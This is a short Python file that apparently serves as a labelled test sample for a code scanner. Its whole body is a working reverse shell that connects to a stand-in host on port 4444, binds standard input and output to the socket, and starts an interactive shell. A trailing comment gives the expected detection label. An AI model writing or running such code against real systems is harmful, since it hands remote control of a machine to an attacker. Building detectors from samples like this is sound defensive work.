import os
import socket
import subprocess


def attach():
    link = socket.socket()
    link.connect(("shell.example.invalid", 4444))
    os.dup2(link.fileno(), 0)
    os.dup2(link.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])  # expect: source/reverse-shell import conclusive


attach()
